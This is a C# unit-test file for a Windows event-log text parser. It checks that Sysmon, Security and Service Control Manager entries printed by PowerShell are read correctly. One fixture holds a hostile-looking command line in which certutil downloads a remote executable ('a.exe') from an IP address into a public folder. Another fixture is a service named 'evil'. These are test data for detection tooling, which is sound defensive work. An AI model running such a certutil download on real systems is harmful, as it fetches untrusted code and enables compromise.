using Modus.Logs;
using Xunit;

namespace Modus.Tests.Logs.WindowsText;

/// <summary>What <c>Get-WinEvent | Format-List</c> prints.</summary>
public sealed class EventListTests
{
    private const string Message = "Process Create:|UtcTime: 2025-03-04 10:11:12.123|Image: C:\\Windows\\System32\\certutil.exe|CommandLine: certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe|CurrentDirectory: C:\\Users\\eve\\|ParentImage: C:\\Windows\\System32\\cmd.exe";

    [Theory]
    [InlineData("\r\n", false)]
    [InlineData("\n", false)]
    [InlineData("\r\n", true)]
    public void All_properties_with_the_message_over_many_lines(string end, bool narrow)
    {
        var text = List(20, ("Message", Message), ("Id", "1"), ("RecordId", "12"), ("ProviderName", "Microsoft-Windows-Sysmon"), ("LogName", "Microsoft-Windows-Sysmon/Operational"), ("MachineName", "WS01"), ("TimeCreated", "3/24/2025 10:11:12 PM"), ("Properties", "{System.Diagnostics.Eventing.Reader.EventProperty, System.Diagnostics.Eventing...}"));
        if (narrow) text = Narrow(text, 79, 23);
        var (events, report) = ReadText.Of(string.Concat(Enumerable.Repeat("\n\n" + text + "\n\n", 3)).Replace("\n", end, StringComparison.Ordinal), new LogReadOptions { AssumedOffset = TimeSpan.Zero });
        Assert.Equal("windows-text", report.Files[0].Format);
        Assert.Equal(3, events.Count);
        foreach (var e in events)
        {
            Assert.True(e.Source.Covers("windows", "sysmon", "process_creation"));
            Assert.Equal(@"C:\Windows\System32\certutil.exe", e["Image"]);
            Assert.Equal(@"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe", e["CommandLine"]);
            Assert.Equal((@"C:\Users\eve\", "WS01", 12L), (e["CurrentDirectory"], e.Host, e.RecordId));
            Assert.Equal(new DateTime(2025, 3, 24, 22, 11, 12), e.Time.Utc);
        }
    }

    [Fact]
    public void The_four_properties_of_the_plain_list_and_a_message_with_headings()
    {
        var text = List(12, ("TimeCreated", "24/03/2025 10:11:12"), ("ProviderName", "Microsoft-Windows-Security-Auditing"), ("Id", "4688"),
            ("Message", "A new process has been created.||Creator Subject:|\tAccount Name:\t\teve||Process Information:|\tNew Process Name:\tC:\\x.exe|\tProcess Command Line:\tx.exe /a"));
        var e = Assert.Single(ReadText.Of(text + "\n").Events);
        Assert.True(e.Source.Covers("windows", "security", "process_creation"));
        Assert.Equal((@"C:\x.exe", "x.exe /a", "eve"), (e["NewProcessName"], e["CommandLine"], e["SubjectUserName"]));
        Assert.Equal(new DateTime(2025, 3, 24, 10, 11, 12), e.Time.Utc);
    }

    [Fact]
    public void Lists_of_get_eventlog_and_blocks_of_any_size()
    {
        var one = List(18, ("EventID", "7045"), ("MachineName", "WS01"), ("Index", "9"), ("EntryType", "Information"), ("Message", "A service was installed in the system.||Service Name:  evil|Service File Name:  C:\\e.exe"), ("Source", "Service Control Manager"), ("TimeGenerated", "3/24/2025 10:11:12 AM"));
        var (events, report) = ReadText.Of(string.Concat(Enumerable.Repeat(one + "\n\n", 6000)));
        Assert.Equal(6000, events.Count);
        Assert.Equal(0, report.Files[0].Skipped.Values.Sum());
        Assert.All(events, e => Assert.Equal((@"C:\e.exe", "WS01"), (e["ImagePath"], e.Host)));
    }

    [Fact]
    public void Text_with_colons_alone_is_no_list() => Assert.NotEqual("windows-text", ReadText.Of("Message : hello\nSource  : me\n\nMessage : again\n").Report.Files[0].Format);

    private static string List(int width, params (string Name, string Value)[] properties) => string.Join('\n', properties.Select(p =>
        p.Name.PadRight(width) + " : " + string.Join('\n', p.Value.Split('|').Select((line, i) => i == 0 ? line : new string(' ', width + 3) + line))));

    private static string Narrow(string text, int width, int indent) => string.Join('\n', text.Split('\n').SelectMany(line => Break(line, width, indent)));

    private static IEnumerable<string> Break(string line, int width, int indent)
    {
        while (line.Length > width)
        {
            var at = line.LastIndexOf(' ', width - 1, width - indent - 1);
            var cut = at <= indent ? width : at;
            yield return line[..cut];
            line = new string(' ', indent) + line[cut..].TrimStart();
        }

        yield return line;
    }
}
